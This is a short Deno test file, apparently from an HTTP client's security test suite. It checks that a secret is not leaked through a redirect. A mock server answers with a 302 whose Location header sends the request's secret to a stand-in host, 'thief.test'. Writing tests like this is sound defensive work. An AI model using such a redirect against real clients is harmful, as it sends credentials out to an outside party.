import { sentSecret, thwarted } from "./echoed.ts";

Deno.test("a redirect whose query carries the secret to another host carries the token", () =>
  thwarted({
    respond: (request) =>
      `HTTP/1.1 302 Found\r\nLocation: http://thief.test/?k=${
        sentSecret(request)
      }\r\nContent-Length: 0\r\n\r\n`,
    read: ({ field }) => field("location") ?? "",
  }));
